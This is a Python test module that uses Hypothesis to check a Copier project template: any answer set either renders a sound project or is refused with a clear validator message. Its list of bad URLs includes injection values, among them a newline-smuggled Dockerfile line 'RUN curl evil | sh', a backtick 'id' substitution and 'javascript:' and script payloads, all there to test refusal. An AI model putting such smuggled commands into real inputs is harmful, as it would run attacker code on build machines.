"""Property tests: whatever a user answers, Copier either renders a sound project or refuses.

`test_any_answers_render_or_are_refused` draws whole answer sets (any display name and
description, any libraries, every store, installer, Python version and platform set, URL
variants) and renders each with Copier. Every set must either give a project that passes the
full file checks, or be refused by a validator whose message names the question and the rule,
with nothing left on disk. Never a Jinja error, never an invalid derived default.

`test_invalid_identifiers_and_urls_are_refused` draws only bad `project_slug`,
`package_name` and `torch_index_url` answers and requires the refusal to name that question.

Examples come from the Hypothesis profile loaded in tests/conftest.py: 200 answer sets (and 50
bad answers), derandomized, no example database; HYPOTHESIS_PROFILE=thorough draws ten times as
many from a random seed.
"""

from __future__ import annotations

import ast
import keyword
import re
import sys
import tempfile
from pathlib import Path

import dockerfile
import pytest
import yaml
from hypothesis import assume, event, example, given, note, settings
from hypothesis import strategies as st
from validate_pyproject import api as validate_pyproject

from harness import checks
from harness.compat import tomllib
from harness.render import CATALOGUE, render

pytestmark = pytest.mark.filterwarnings("ignore::copier.errors.DirtyLocalWarning")

LIBRARIES = list(CATALOGUE["libraries"])
STORES = list(CATALOGUE["stores"])
PLATFORMS = list(CATALOGUE["platforms"])

# What a package name must not be, from Python itself rather than the catalogue.
STDLIB = set(sys.stdlib_module_names) | set(CATALOGUE["stdlib_modules"])
KEYWORDS = set(keyword.kwlist)  # hard keywords; the catalogue also refuses match and case
LIBRARY_IMPORTS = {entry["import"] for entry in CATALOGUE["libraries"].values()} | {
    entry["import"] for entry in CATALOGUE["stores"].values() if "import" in entry
}
TAKEN = KEYWORDS | set(CATALOGUE["python_keywords"]) | STDLIB | LIBRARY_IMPORTS
SLUG = re.compile(r"\A(?=.{1,48}\Z)[a-z0-9]+(-[a-z0-9]+)*\Z")  # at most 48 characters
PACKAGE = re.compile(r"\A[a-z][a-z0-9_]{0,31}\Z")  # at most 32, so imports fit on a line

PYPROJECT_VALIDATOR = validate_pyproject.Validator()


# --------------------------------------------------------------------------- free text

CONTROL = re.compile(
    "[\x00-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff"
    "\ufff9-\ufffb\ufffe\uffff]+"
)


def one_line(text: str) -> str:
    """What includes/text.jinja's one_line makes of free text (Jinja's trim is str.strip)."""
    return re.sub(" {2,}", " ", CONTROL.sub(" ", text)).strip()


def quoted_inner(text: str) -> str:
    return one_line(text).replace("\\", "\\\\").replace('"', '\\"')


def python_inner(text: str) -> str:
    """The inside of includes/text.jinja's python_string: ruff's choice of quotes."""
    line = one_line(text).replace("\\", "\\\\")
    if line.count('"') > line.count("'"):
        return line.replace("'", "\\'")
    return line.replace('"', '\\"')


def markdown(text: str) -> str:
    escaped = re.sub(r"([\\`*_{}\[\]<>#|~!&])", r"\\\1", one_line(text))
    return re.sub(r"^([-+=]|[0-9]+(?=[.)]))", r"\\\1", escaped)


def unescape_markdown(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


TRICKY = [
    '"',
    "'",
    "\\",
    "\\n",
    "#",
    "# ",
    "{{ name }}",
    "{{",
    "}}",
    "{%",
    "%}",
    "{#",
    "#}",
    "{% raw %}",
    "key = value",
    "[section]",
    "`",
    "```",
    "$HOME",
    "${X}",
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\ufffe",
    "*",
    "_",
    "[",
    "]",
    "<b>",
    "</script>",
    "|",
    "- ",
    "+ ",
    "= ",
    "1. ",
    "2) ",
    "---",
    "...",
    ":",
    ": ",
    "&anchor",
    "*alias",
    "!tag",
    "%",
    "@",
    "é",
    "日本語",
    "🙂",
    "\u200b",
    " ",
    "  ",
    "\u3000",
    "\N{KELVIN SIGN}",
    "İ",
    "ß",
    "ﬁ",
    "\u202e",
    "\u2066",
    "\u200d",
    "\u00ad",
    '"""',
    "'''",
    "\\u0041",
    "\\x00",
    "null",
    "~",
    "true",
    "0x10",
    "1e3",
    "-",
    "--",
    "__init__",
]
pieces = st.one_of(st.sampled_from(TRICKY), st.text(max_size=4))
free_text = st.one_of(
    st.text(max_size=40),
    st.lists(pieces, max_size=10).map("".join),
    st.text(min_size=100, max_size=160),
    st.lists(st.sampled_from(TRICKY), min_size=8, max_size=40).map("".join),
)
names = st.one_of(  # any non-empty display name
    st.text(min_size=1, max_size=40),
    st.lists(pieces, min_size=1, max_size=10).map("".join).filter(bool),
    st.text(min_size=100, max_size=160),
    st.lists(st.sampled_from(TRICKY), min_size=8, max_size=40).map("".join),
)


# --------------------------------------------------------------------------- identifiers


@st.composite
def valid_slugs(draw) -> str:
    words = draw(st.lists(st.from_regex(r"\A[a-z0-9]{1,12}\Z"), min_size=1, max_size=5))
    return "-".join(words)[:48].rstrip("-")


valid_packages = st.from_regex(r"\A[a-z][a-z0-9_]{0,31}\Z").filter(lambda name: name not in TAKEN)


# --------------------------------------------------------------------------- URLs

LABEL = r"[a-z0-9]([a-z0-9-]{0,14}[a-z0-9])?"
hosts = st.one_of(
    st.from_regex(rf"\A{LABEL}(\.{LABEL}){{0,3}}\Z"),
    st.sampled_from(["localhost", "127.0.0.1", "[::1]", "[2001:db8::1]", "Mirror.Example.COM"]),
)
PATH_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~!&()*+,;=:"
segments = st.lists(
    st.one_of(
        st.text(alphabet=PATH_CHARS, min_size=1, max_size=10),
        st.sampled_from(["%20", "%2B", "%C3%A9", "simple", "whl", "cpu", "~user"]),
    ),
    min_size=1,
    max_size=3,
).map("".join)


@st.composite
def valid_urls(draw) -> str:
    path = "/".join(draw(st.lists(segments, max_size=4)))
    slash = "/" if draw(st.booleans()) else ""
    if draw(st.integers(0, 3)) == 0:
        return f"file:///{path}{slash}" if path else "file:///"
    scheme = draw(st.sampled_from(["http", "https"]))
    port = draw(st.one_of(st.none(), st.integers(1, 65535)))
    authority = draw(hosts) + (f":{port}" if port is not None else "")
    return f"{scheme}://{authority}{'/' + path if path else ''}{slash}"


# --------------------------------------------------------------------------- answer sets


@st.composite
def answer_sets(draw) -> dict:
    """A whole answer set; a question left out takes its (derived) default."""
    answers = {"project_name": draw(names)}
    if draw(st.integers(0, 4)) == 0:
        answers["project_slug"] = draw(valid_slugs())
    if draw(st.integers(0, 4)) == 0:
        answers["package_name"] = draw(valid_packages)
    if draw(st.booleans()):
        answers["description"] = draw(free_text)
    answers["python_version"] = draw(st.sampled_from(["3.11", "3.12", "3.13"]))
    libraries = draw(st.sets(st.sampled_from(LIBRARIES)))
    answers["ml_libraries"] = [name for name in LIBRARIES if name in libraries]
    answers["vector_store"] = draw(st.sampled_from(STORES))
    installer = draw(st.sampled_from([None, "conda", "uv"]))
    if installer is not None:
        answers["torch_installer"] = installer
    if draw(st.integers(0, 3)):
        answers["torch_index_url"] = draw(valid_urls())
    platforms = draw(st.sets(st.sampled_from(PLATFORMS), max_size=2))
    # An empty set means the default; none at all (refused) now and then: 17 is no boundary
    # value, so Hypothesis draws it about one time in 32.
    if platforms or draw(st.integers(0, 31)) == 17:
        answers["lock_platforms"] = [p for p in PLATFORMS if p in platforms]
    return answers


def expected_refusal(answers: dict) -> str | None:
    """The first question (in Copier's order) whose answer breaks a documented rule."""
    if not one_line(answers["project_name"]):
        return "project_name"
    uv_from_a_host_folder = answers.get("torch_installer") == "uv" and answers.get(
        "torch_index_url", ""
    ).startswith("file:")
    if uv_from_a_host_folder:
        return "torch_index_url"
    if answers.get("lock_platforms") == []:
        return "lock_platforms"
    return None


# --------------------------------------------------------------------------- rendering


def copy(destination: Path, answers: dict) -> str | None:
    """Render with Copier; the refusal message, or None when it rendered."""
    try:
        render(destination, answers)
    except ValueError as error:  # how Copier 9.19 reports a failed validator under --defaults
        return str(error)
    return None


def check_refusal(message: str, question: str, destination: Path) -> None:
    match = re.fullmatch(r"Validation error for question '(\w+)': (.+)", message, re.S)
    assert match, f"not a validator refusal: {message}"
    assert match[1] == question, f"refused {match[1]}, expected {question}: {message}"
    # The validator's own text starts with the rule, on a line that fits 80 columns; a crashing
    # validator (whose exception text Copier would show instead) does not start like this.
    assert re.match(r"(must|use) \S", match[2]), f"message does not lead with a rule: {message}"
    assert len(message.splitlines()[0]) <= 80, f"rule cut off in an 80-column terminal: {message}"
    assert not destination.exists() or not any(destination.iterdir()), "partial project left"


def check_layout_and_leftovers(project: Path, free: list[str]) -> None:
    """checks.check_layout, except that Jinja delimiters the user typed may appear where the
    user's text lands (escaped for its file); anywhere else they are leftovers."""
    checks.check_whitespace(project)
    escapes = (one_line, quoted_inner, python_inner, markdown)
    forms = sorted({form(text) for text in free for form in escapes} - {""}, key=len, reverse=True)
    for path in checks.text_files(project):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(project)
        if path.name == ".copier-answers.yml":  # YAML may fold or escape the text: parsed below
            text = "\n".join(line for line in text.splitlines() if line.startswith("#"))
        for form in forms:
            text = text.replace(form, "")
        assert not checks.JINJA_LEFTOVER.search(text), f"{name}: Jinja left over"


def check_rendered(project: Path, answers: dict) -> None:
    """The full file checks, plus: free text survives, derived defaults are valid."""
    recorded = yaml.safe_load((project / ".copier-answers.yml").read_text(encoding="utf-8"))
    for question, answer in answers.items():
        if question in ("project_name", "description"):
            # PyYAML's emitter writes a NEL (U+0085) raw inside a single-quoted scalar, and its
            # reader folds it to a space. Free text only ever reaches the files through
            # one_line, which makes a space of NEL too, so an update renders the same project.
            assert one_line(recorded[question]) == one_line(answer), f"{question} recorded wrong"
            if "\x85" in answer:
                continue
        assert recorded[question] == answer, f"{question} recorded as {recorded[question]!r}"
    slug, package = recorded["project_slug"], recorded["package_name"]
    assert SLUG.match(slug), f"derived project_slug {slug!r} is invalid"
    assert PACKAGE.match(package) and package not in TAKEN, (
        f"derived package_name {package!r} is invalid"
    )
    description = recorded["description"]

    check_layout_and_leftovers(project, [recorded["project_name"], description])
    # checks.check_toml_yaml with validate-pyproject in-process (same validator, no subprocess).
    pyproject = tomllib.loads((project / "pyproject.toml").read_text(encoding="utf-8"))
    PYPROJECT_VALIDATOR(pyproject)
    for path in [project / "environment.yml", *project.glob(".github/workflows/*.yml")]:
        yaml.safe_load(path.read_text(encoding="utf-8"))
    checks.check_dockerfile(project)  # Docker's parser and hadolint
    checks.check_environment(project)  # MatchSpecs, CPU builds only
    checks.check_python_lint(project)  # ruff: syntax and pyflakes

    assert pyproject["project"]["name"] == slug
    assert pyproject["project"]["description"] == one_line(description)
    assert pyproject["tool"]["uv"]["index"][0]["url"] == recorded["torch_index_url"]
    cli = ast.parse((project / "src" / package / "cli.py").read_text(encoding="utf-8"))
    literals = [
        kw.value.value
        for node in ast.walk(cli)
        if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "ArgumentParser"
        for kw in node.keywords
        if kw.arg == "description" and isinstance(kw.value, ast.Constant)
    ]
    assert literals == [one_line(description)]
    init = ast.parse((project / "src" / package / "__init__.py").read_text(encoding="utf-8"))
    summary = one_line(description)
    assert ast.get_docstring(init, clean=False) == (f"{slug}: {summary}" if summary else slug)
    readme = (project / "README.md").read_text(encoding="utf-8").splitlines()
    assert readme[0].startswith("# ") and unescape_markdown(readme[0][2:]) == one_line(
        recorded["project_name"]
    )
    if one_line(description):
        assert unescape_markdown(readme[2]) == one_line(description)
    env = " ".join(
        " ".join(i.value)
        for i in dockerfile.parse_file(str(project / "Dockerfile"))
        if i.cmd == "ENV"
    )
    assert f"pytorch-cpu={recorded['torch_index_url']}" in env


# --------------------------------------------------------------------------- properties


@given(answers=answer_sets())
@example(answers={"project_name": "\x00"})
@example(answers={"project_name": "Audio", "ml_libraries": ["torchaudio"]})
@example(answers={"project_name": "Empty", "description": ""})
@example(answers={"project_name": "{% raw %}{{ x }}", "description": '{%- if x %}"\\#'})
@example(answers={"project_name": "x" * 150, "description": "key = value # not a comment"})
@example(answers={"project_name": "Json"})
@example(answers={"project_name": "Tiny", "torch_index_url": "http://[::1]:8080/simple/"})
@example(answers={"project_name": "No Platform", "lock_platforms": []})
def test_any_answers_render_or_are_refused(answers):
    note(f"answers: {answers!r}")
    with tempfile.TemporaryDirectory() as temp:
        destination = Path(temp) / "project"
        refusal = copy(destination, answers)
        expected = expected_refusal(answers)
        if refusal is not None:
            assert expected is not None, f"valid answers refused: {refusal}"
            check_refusal(refusal, expected, destination)
            event(f"refused: {expected}")
            return
        assert expected is None, f"{expected} should have been refused"
        check_rendered(destination, answers)
        event("rendered")


# --------------------------------------------------------------------------- invalid answers

bad_slugs = st.one_of(
    st.sampled_from(
        [
            "",
            "My App",
            "my_app",
            "my.app",
            "a--b",
            "-a",
            "a-",
            "-",
            "App",
            "café",
            "１２３",
            "a b",
            "a\nb",
            "a/b",
            "ml-service\n",
            " ml",
            "${x}",
            "a" * 49,
            "-".join(["abcdefgh"] * 6),
        ]
    ),
    st.text(min_size=1, max_size=20).filter(lambda s: not SLUG.match(s)),
)
bad_packages = st.one_of(
    st.sampled_from(sorted(n for n in KEYWORDS | set(CATALOGUE["python_keywords"]) if n.islower())),
    st.sampled_from(sorted(STDLIB)),
    st.sampled_from(sorted(LIBRARY_IMPORTS)),
    st.sampled_from(
        [
            "",
            "1app",
            "my-app",
            "My_App",
            "my app",
            "café",
            "app\n",
            "_private",
            "__main__",
            "__init__",
            "a.b",
            "app$",
            "ñ",
            "a" * 33,
            "service_" * 5,
        ]
    ),
    st.text(min_size=1, max_size=20).filter(lambda s: not PACKAGE.match(s)),
)
bad_urls = st.one_of(
    st.sampled_from(
        [
            "",
            "download.pytorch.org/whl/cpu",
            "ftp://mirror/simple",
            "https://",
            "http:///simple",
            "https://user:secret@mirror.example/simple",
            "https://token@mirror.example/simple",
            "https://mirror.example/simple?token=a@b",
            "https://mirror.example/a b",
            "https://mirror.example/simple\n",
            "https://mirror.example/\nRUN curl evil | sh",
            'https://mirror.example/"',
            "https://mirror.example/'",
            "https://mirror.example/`id`",
            "https://mirror.example/$TOKEN",
            "https://mirror.example/${TOKEN}",
            "https://mirror.example/simple#frag",
            "https://mirror.example\\simple",
            "https://mirror.example/{{ x }}",
            "https://mirror.example/<script>",
            "https://mirror.example/a|b",
            "https://mirror.example/%zz",
            "https://-bad-.example/",
            "https://mirror..example/",
            "file://host/share",
            "file:relative",
            "javascript:alert(1)",
            "HTTPS://mirror.example/simple",
            " https://mirror.example/simple",
            "https://exa mple/",
            "https://mirror.example:port/",
            "https://mirror.example:99999999/",
        ]
    ),
    st.builds(
        lambda url, junk: url + junk,
        valid_urls(),
        st.sampled_from(
            [
                " ",
                "\t",
                '"',
                "'",
                "`",
                "$",
                "#",
                "\\",
                "@",
                "{",
                "}",
                "<",
                ">",
                "|",
                "^",
                "\n",
                "%",
                "%g0",
            ]
        ),
    ),
    st.builds(
        lambda scheme, rest: f"{scheme}://user:pass@{rest}",
        st.sampled_from(["http", "https"]),
        st.sampled_from(["h/simple", "h:1/x"]),
    ),
)


# A quarter of the profile's examples (50 in CI): each costs a template clone, and the rules
# are few; tests/test_validators.py and tests/test_security.py pin the important cases one by one.
@settings(max_examples=max(50, settings().max_examples // 4))
@given(
    bad=st.one_of(
        st.tuples(st.just("project_slug"), bad_slugs),
        st.tuples(st.just("package_name"), bad_packages),
        st.tuples(st.just("torch_index_url"), bad_urls),
    )
)
def test_invalid_identifiers_and_urls_are_refused(bad):
    question, value = bad
    note(f"{question} = {value!r}")
    if question == "package_name":
        assume(not (PACKAGE.match(value) and value not in TAKEN))
    answers = {"project_name": "Refusal Probe", question: value}
    with tempfile.TemporaryDirectory() as temp:
        destination = Path(temp) / "project"
        refusal = copy(destination, answers)
        assert refusal is not None, f"{question}={value!r} was accepted"
        check_refusal(refusal, question, destination)
        if question == "torch_index_url" and "@" in value:
            assert "credentials" in refusal and "UV_INDEX_PYTORCH_CPU_USERNAME" in refusal
